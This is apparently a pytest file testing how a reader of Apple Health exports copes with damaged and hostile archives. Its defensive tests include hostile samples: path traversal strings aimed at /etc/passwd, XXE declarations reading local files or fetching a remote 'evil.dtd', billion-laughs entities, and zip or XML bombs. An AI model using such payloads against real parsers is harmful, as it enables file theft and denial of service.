"""Reading an Apple Health export, honest or hostile."""

import os
import stat
import tracemalloc
import zipfile
from pathlib import Path
from typing import IO

import pytest

from tests.uplift.cli.push.exports import (
    CONDITION,
    DTD,
    archive,
    document,
    element,
    only,
    read,
    skipped,
)
from uplift.cli.push.notes import Notes
from uplift.cli.push.records import Record, Skipped, UnreadableSource
from uplift.cli.push.sources import count_records


def test_a_record_comes_with_its_version_source_identifier_and_untouched_bytes(
    tmp_path: Path,
) -> None:
    assert read(archive(tmp_path, document(element()))) == [
        Record(
            label="clinical-records/Condition-1.json",
            fhir_version="4.0.1",
            resource_type="Condition",
            body=CONDITION,
            source="Hospital & Clinic",
            record_id="c1",
            hospital="Hospital & Clinic",
            date="2020-08-06",
            source_url="https://fhir.example.org/Condition/c1",
            received_at="2020-08-06T05:01:22-08:00",
        )
    ]


@pytest.mark.parametrize("date", [None, "", "yesterday", "2020-08-06"])
def test_a_received_date_in_another_form_is_left_out(tmp_path: Path, date: str | None) -> None:
    found = only(read(archive(tmp_path, document(element(receivedDate=date)))))
    assert isinstance(found, Record)
    assert found.received_at is None


def test_an_unpacked_export_reads_like_the_archive(tmp_path: Path) -> None:
    path = archive(tmp_path, document(element()))
    with zipfile.ZipFile(path) as zipped:
        zipped.extractall(tmp_path / "unpacked")
    folder = tmp_path / "unpacked" / "apple_health_export"
    assert read(folder) == read(path)
    assert count_records(folder) == count_records(path) == 1


def test_the_index_may_have_a_translated_name_and_lie_at_the_top(tmp_path: Path) -> None:
    path = tmp_path / "exportieren.zip"
    with zipfile.ZipFile(path, "w") as zipped:
        zipped.writestr("Exportieren.xml", document(element()))
        zipped.writestr("Exportieren_cda.xml", "<ClinicalDocument/>")
        zipped.writestr("clinical-records/Condition-1.json", CONDITION)
    assert isinstance(only(read(path)), Record)
    assert count_records(path) == 1


def test_a_record_without_source_url_is_read(tmp_path: Path) -> None:
    found = only(read(archive(tmp_path, document(element(sourceURL=None)))))
    assert isinstance(found, Record)
    assert found.source == "Hospital & Clinic"


@pytest.mark.parametrize("name", ["identifier", "sourceName", "fhirVersion", "resourceFilePath"])
def test_a_record_without_a_needed_attribute_is_skipped_and_named(
    tmp_path: Path, name: str
) -> None:
    found = skipped(archive(tmp_path, document(element().replace(f"{name}=", "else="))))
    assert name in found.reason
    assert found.resource_type == "Condition"


def test_the_version_of_old_exports_can_be_given(tmp_path: Path) -> None:
    path = archive(tmp_path, document(element(fhirVersion=None)))
    (found,) = read(path, fhir_version="DSTU2")
    assert isinstance(found, Record)
    assert found.fhir_version == "DSTU2"


def test_a_listed_file_that_is_not_there_is_skipped_and_the_rest_is_read(tmp_path: Path) -> None:
    first, second = read(
        archive(tmp_path, document(element("/clinical-records/gone.json"), element()))
    )
    assert isinstance(first, Skipped)
    assert first.label == "clinical-records/gone.json"
    assert "not in the export" in first.reason
    assert isinstance(second, Record)


@pytest.mark.parametrize(
    "data", [b"", b"not json", b"[1]", b'{"id": "1"}', b"\xff\xfe{}", b"[" * 99_999]
)
def test_a_file_that_is_no_resource_is_skipped(tmp_path: Path, data: bytes) -> None:
    path = archive(tmp_path, document(element()), {"clinical-records/Condition-1.json": data})
    assert "not a JSON object" in skipped(path).reason


def test_the_dtd_that_ios_16_writes_badly_does_not_matter(tmp_path: Path) -> None:
    dtd = DTD.replace("]>", "<!ATTLIST VisionPrescription\n  type CDATA #REQUIRED\n<!ELEMENT X\n]>")
    assert isinstance(only(read(archive(tmp_path, document(element(), dtd=dtd)))), Record)


def test_control_characters_that_xml_forbids_do_not_end_the_reading(tmp_path: Path) -> None:
    noise = '<Record type="x" device="a\x0bb\x01"/>'
    assert isinstance(only(read(archive(tmp_path, document(noise, element())))), Record)


def test_an_index_that_breaks_off_gives_what_came_before_and_says_where(tmp_path: Path) -> None:
    xml = document(element(), "\n" * 600_000, element()).removesuffix("</HealthData>\n")
    notes = Notes()
    found = read(archive(tmp_path, xml), notes=notes)
    assert [type(item) for item in found] == [Record, Record]
    (note,) = notes.unread
    assert note.label.startswith("export.xml, line 6000")
    assert "ends without </HealthData>" in note.reason


@pytest.mark.parametrize(
    "path",
    [
        "/../../secret.json",
        "/clinical-records/../../secret.json",
        "//secret.json",
        "/etc/passwd",
        "/clinical-records/\\..\\secret.json",
        "/clinical-records",
        "/clinical-records/a&#10;b.json",
    ],
)
@pytest.mark.parametrize("unpacked", [True, False])
def test_a_path_that_leads_elsewhere_is_not_followed(
    tmp_path: Path, path: str, unpacked: bool
) -> None:
    (tmp_path / "secret.json").write_bytes(CONDITION)
    export = archive(tmp_path, document(element(path)))
    if unpacked:
        with zipfile.ZipFile(export) as zipped:
            zipped.extractall(tmp_path / "unpacked")
        export = tmp_path / "unpacked" / "apple_health_export"
        (tmp_path / "unpacked" / "secret.json").write_bytes(CONDITION)
    assert "not in the export" in skipped(export).reason


def test_a_link_or_a_pipe_in_an_unpacked_export_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "secret.json").write_bytes(CONDITION)
    folder = tmp_path / "export"
    (folder / "clinical-records").mkdir(parents=True)
    (folder / "export.xml").write_text(
        document(element("/clinical-records/link.json"), element("/clinical-records/pipe.json"))
    )
    (folder / "clinical-records" / "link.json").symlink_to(tmp_path / "secret.json")
    os.mkfifo(folder / "clinical-records" / "pipe.json")
    assert [type(item) for item in read(folder)] == [Skipped, Skipped]


@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        '<!ENTITY % remote SYSTEM "http://198.51.100.1/evil.dtd"> %remote;',
    ],
)
def test_an_index_that_defines_entities_is_not_read(tmp_path: Path, declaration: str) -> None:
    xml = document(element(identifier="&lol2;"), dtd=f"<!DOCTYPE HealthData [{declaration}]>")
    notes = Notes()
    (found,) = read(archive(tmp_path, xml), notes=notes)
    assert isinstance(found, Skipped)
    assert "entities" in notes.unread[0].reason


def test_an_entity_that_is_not_defined_stays_as_it_is_written(tmp_path: Path) -> None:
    notes = Notes()
    found = only(read(archive(tmp_path, document(element(identifier="&xxe;"))), notes=notes))
    assert isinstance(found, Record)
    assert found.record_id == "&xxe;"
    assert [note.label for note in notes.passed_over] == ["export.xml, line 11"]


def test_a_doctype_inside_the_document_defines_nothing(tmp_path: Path) -> None:
    inner = '<!DOCTYPE HealthData [<!ENTITY a "b">]>'
    notes = Notes()
    (found,) = read(archive(tmp_path, document(inner, element(identifier="&a;"))), notes=notes)
    assert isinstance(found, Skipped)
    assert "entities" in notes.unread[0].reason


def test_an_index_in_utf_16_is_not_read_and_its_records_are_named(tmp_path: Path) -> None:
    xml = document(element()).replace("UTF-8", "UTF-16")
    found = skipped(archive(tmp_path, xml.encode("utf-16")))
    assert found.label.endswith("clinical-records/Condition-1.json")


def write_much(file: IO[bytes], head: bytes, body: bytes, size: int) -> None:
    file.write(head)
    for _ in range(size // len(body)):
        file.write(body)


@pytest.mark.parametrize(
    ("head", "body"),
    [
        (b"", b" " * 65536),
        (b"<!DOCTYPE HealthData [", b"<!ELEMENT a EMPTY>" * 4096),
        (b'<HealthData><ClinicalRecord identifier="', b"x" * 65536),
        (b"<HealthData><!--", b"x" * 65536),
        (b"<HealthData>", b"<a>" * 16384),
    ],
    ids=["nothing", "endless DTD", "endless attribute", "endless comment", "endless nesting"],
)
def test_a_bomb_in_the_index_is_refused_with_bounded_memory(
    tmp_path: Path, head: bytes, body: bytes
) -> None:
    path = tmp_path / "bomb.zip"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped,
        zipped.open("export.xml", "w") as file,
    ):
        write_much(file, head, body, 100 * 1024 * 1024)
    tracemalloc.start()
    try:
        with pytest.raises(UnreadableSource):
            read(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 1024 * 1024


def test_an_index_of_ever_new_names_costs_no_memory(tmp_path: Path) -> None:
    names = "".join(f"<n{number}/>" for number in range(60_000))
    assert isinstance(only(read(archive(tmp_path, document(names, element())))), Record)


def test_a_large_index_is_read_with_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "large.zip"
    sample = b'<Record type="HKQuantityTypeIdentifierStepCount" value="3"/>\n' * 1024
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        with zipped.open("export.xml", "w") as file:
            write_much(file, b"<HealthData>", sample, 30 * 1024 * 1024)
            file.write(element().encode() + b"</HealthData>")
        zipped.writestr("clinical-records/Condition-1.json", CONDITION)
    tracemalloc.start()
    try:
        found = read(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert isinstance(only(found), Record)
    assert peak < 8 * 1024 * 1024


def test_a_bomb_in_a_record_is_skipped_with_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("export.xml", document(element()))
        with zipped.open("clinical-records/Condition-1.json", "w") as file:
            write_much(file, b'{"resourceType": "', b"a" * 65536, 100 * 1024 * 1024)
    tracemalloc.start()
    try:
        found = skipped(path, max_record_bytes=1024 * 1024)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found.reason == "larger than 1,024 KiB"
    assert peak < 8 * 1024 * 1024


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_record_packed_in_another_way_than_apples_is_skipped(tmp_path: Path, method: int) -> None:
    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w") as zipped:
        zipped.writestr("export.xml", document(element()))
        zipped.writestr("clinical-records/Condition-1.json", CONDITION, method)
    assert "compressed in a way" in skipped(path).reason


def test_an_encrypted_record_is_skipped(tmp_path: Path) -> None:
    path = archive(tmp_path, document(element()))
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.rindex(signature) + offset] |= 0x1
    path.write_bytes(data)
    assert "encrypted" in skipped(path).reason


def test_a_damaged_record_is_skipped_and_the_rest_is_read(tmp_path: Path) -> None:
    path = archive(
        tmp_path,
        document(element("/clinical-records/a.json"), element("/clinical-records/b.json")),
        {"clinical-records/a.json": CONDITION, "clinical-records/b.json": CONDITION},
    )
    data = bytearray(path.read_bytes())
    data[data.index(b"a.json") + 20] ^= 0xFF
    path.write_bytes(data)
    first, second = read(path)
    assert isinstance(first, Skipped)
    assert isinstance(second, Record)


def test_an_index_that_is_damaged_is_told_and_so_is_each_record(tmp_path: Path) -> None:
    path = archive(tmp_path, document(element()))
    data = bytearray(path.read_bytes())
    data[70:100] = bytes(30)
    path.write_bytes(data)
    found = skipped(path)
    assert found.label.endswith("clinical-records/Condition-1.json")


def test_an_archive_without_an_index_is_an_error_that_says_what_to_do(tmp_path: Path) -> None:
    path = tmp_path / "photos.zip"
    with zipfile.ZipFile(path, "w") as zipped:
        zipped.writestr("photo.jpg", b"")
    with pytest.raises(UnreadableSource, match="Export All Health Data"):
        read(path)


def test_nothing_is_written_to_disk(tmp_path: Path) -> None:
    path = archive(tmp_path, document(element()))
    before = {each: stat.S_IFMT(each.stat().st_mode) for each in tmp_path.rglob("*")}
    read(path)
    assert {each: stat.S_IFMT(each.stat().st_mode) for each in tmp_path.rglob("*")} == before
